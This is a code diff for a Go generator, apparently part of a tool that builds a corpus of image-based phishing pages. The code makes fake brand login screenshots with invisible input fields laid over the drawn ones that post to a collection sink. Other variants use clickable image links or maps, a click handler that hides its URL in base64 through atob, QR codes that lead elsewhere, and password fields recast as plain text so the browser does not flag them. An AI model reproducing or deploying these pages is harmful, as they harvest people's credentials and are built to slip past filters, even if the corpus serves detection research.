@@ -2,7 +2,6 @@ package corpus
 
 import (
 	"bytes"
-	"encoding/base64"
 	"fmt"
 	"image"
 	"image/color"
@@ -19,17 +18,14 @@ import (
 
 // pictures are the methods that show a picture of a page.
 var pictures = []trick{
-	{"fields", "lllcpt", true, false, func(s *scene) map[string][]byte { return overlay(s, "transparent", false) }},
-	{"one-field", "l", true, false, func(s *scene) map[string][]byte { return overlay(s, "transparent", true) }},
+	{"fields", "lllcpt", true, false, func(s *scene) map[string][]byte { return overlay(s, false) }},
+	{"one-field", "l", true, false, func(s *scene) map[string][]byte { return overlay(s, true) }},
 	{"inline-fields", "llcp", true, false, inlined},
-	{"link", noWallet, false, true, func(s *scene) map[string][]byte {
-		return drawn(s, `<a href="`+s.Sink+`"><img src="screen.png" alt=""></a>`)
-	}},
-	{"map", "llpt", false, true, func(s *scene) map[string][]byte {
-		return drawn(s, `<img src="screen.png" usemap="#m"><map name="m"><area shape="rect" coords="40,180,440,620" href="`+s.Sink+`"></map>`)
-	}},
+	{"link", noWallet, false, true, func(s *scene) map[string][]byte { return drawn(s, "picture-link") }},
+	{"map", "llpt", false, true, func(s *scene) map[string][]byte { return drawn(s, "picture-map") }},
 	{"click", all, false, true, func(s *scene) map[string][]byte {
-		return drawn(s, `<img src="screen.png" id="i" style="cursor:pointer"><script>i.onclick=function(){open(atob("`+encode("https://"+s.Host+"/a")+`"),"_self")}</script>`)
+		s.A = encode("https://" + s.Host + "/a")
+		return drawn(s, "picture-click")
 	}},
 	{"code", "llwp", false, true, scanned},
 }
@@ -74,7 +70,7 @@ func (s sheet) write(x, y, width int, size float64, c color.Color, text string) 
 func (s sheet) png() []byte {
 	var out bytes.Buffer
 	fast := png.Encoder{CompressionLevel: png.BestSpeed}
-	if err := fast.Encode(&out, s); err != nil {
+	if err := fast.Encode(&out, s.RGBA); err != nil {
 		panic(err)
 	}
 	return out.Bytes()
@@ -95,13 +91,10 @@ func top(i int) int { return 220 + 62*i }
 
 // screen draws the scene as a screenshot of 480 pixels in width.
 func screen(s *scene) sheet {
-	if s.Lang == "ja" || s.Lang == "zh" || strings.IndexFunc(s.Brand, foreign) >= 0 {
-		s.Lang = "en"
-		for strings.IndexFunc(s.Brand, foreign) >= 0 {
-			s.Brand = pick(s.rng, brands[s.Kind])
-		}
-		s.Head, s.Button, s.Lead = s.any(s.Kind+".head"), s.any("button"), strings.ReplaceAll(s.any(s.Kind+".lead"), "{b}", s.Brand)
-		s.Fields = nil
+	for strings.IndexFunc(s.Brand+s.Head, foreign) >= 0 {
+		s.Lang, s.Fields, s.Long = "en", nil, ""
+		s.imitate(brands[s.Kind])
+		s.speak()
 		s.ask()
 	}
 	out := newSheet(480, top(len(s.Fields))+110, color.White)
@@ -121,39 +114,38 @@ func screen(s *scene) sheet {
 	return out
 }
 
-// drawn returns a page of the picture with the markup below its title.
-func drawn(s *scene, markup string) map[string][]byte {
-	if len(s.Fields) > 6 {
-		s.Fields = s.Fields[:6]
-	}
+// drawn returns a page of the picture, shown by a template.
+func drawn(s *scene, name string) map[string][]byte {
+	s.Fields = s.Fields[:min(len(s.Fields), 6)]
 	picture := screen(s).png()
-	files := single(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>` + s.Title + `</title><style>body{margin:0;text-align:center}</style></head><body>` + markup + `</body></html>`)
+	s.Markup = s.render(name)
+	files := single(s.render("picture"))
 	files["screen.png"] = picture
 	return files
 }
 
 // overlay returns a page of the picture with a field above each drawn one, or above the last one.
-func overlay(s *scene, back string, last bool) map[string][]byte {
-	files := drawn(s, "")
-	var fields strings.Builder
-	for i, f := range s.Fields {
-		if last && i < len(s.Fields)-1 {
-			continue
-		}
-		fmt.Fprintf(&fields, `<input name="v%d" type="%s" style="position:absolute;left:42px;top:%dpx;width:392px;height:40px;border:0;background:%s;outline:0;font-size:17px">`,
-			i, f.Type, top(i)+2, back)
+func overlay(s *scene, last bool) map[string][]byte {
+	picture, first := screen(s).png(), 0
+	if last {
+		first = len(s.Fields) - 1
 	}
-	page := fmt.Sprintf(`<!doctype html><html><head><meta charset="utf-8"><title>%s</title></head><body><form method="post" action="%s" style="position:relative;width:480px;margin:0 auto"><img src="screen.png" width="480">%s<button style="position:absolute;left:40px;top:%dpx;width:160px;height:42px;opacity:0"></button></form></body></html>`,
-		s.Title, s.Sink, fields.String(), top(len(s.Fields)))
-	files["index.html"] = []byte(page)
+	s.Markup = ""
+	for i, f := range s.Fields[first:] {
+		f.Name, f.Attr = fmt.Sprint(first+i), fmt.Sprint(top(first+i)+2)
+		s.Markup += rendered("over", f)
+	}
+	s.A = fmt.Sprint(top(len(s.Fields)))
+	files := single(s.render("overlay"))
+	files["screen.png"] = picture
 	return files
 }
 
-// inlined returns the same with the picture within the page, and texts that hide as dots are drawn by the font of the browser.
+// inlined returns the same with the picture within the page, and no field that the browser knows as secret.
 func inlined(s *scene) map[string][]byte {
-	files := overlay(s, "transparent", false)
-	page := strings.Replace(string(files["index.html"]), "screen.png", "data:image/png;base64,"+base64.StdEncoding.EncodeToString(files["screen.png"]), 1)
-	return single(strings.ReplaceAll(page, `type="password"`, `style2="" type="text" autocomplete="off"`))
+	files := overlay(s, false)
+	page := strings.Replace(string(files["index.html"]), "screen.png", "data:image/png;base64,"+encode(string(files["screen.png"])), 1)
+	return single(strings.ReplaceAll(page, `type="password"`, `type="text" autocomplete="off"`))
 }
 
 // scanned returns a picture with a code for telephones that leads elsewhere.
@@ -167,7 +159,7 @@ func scanned(s *scene) map[string][]byte {
 		panic(err)
 	}
 	s.Fields = nil
-	made := drawn(s, `<img src="screen.png">`)
+	made := drawn(s, "picture-code")
 	out := newSheet(480, 560, color.White)
 	out.fill(image.Rect(0, 0, 480, 60), s.accent())
 	out.write(20, 40, 440, 26, color.White, s.Brand)
@@ -186,4 +178,4 @@ func logo(s *scene) []byte {
 }
 
 // foreign reports whether the font has no such letter.
-func foreign(r rune) bool { return r > 0xff }
+func foreign(r rune) bool { return r > 0x2fff }
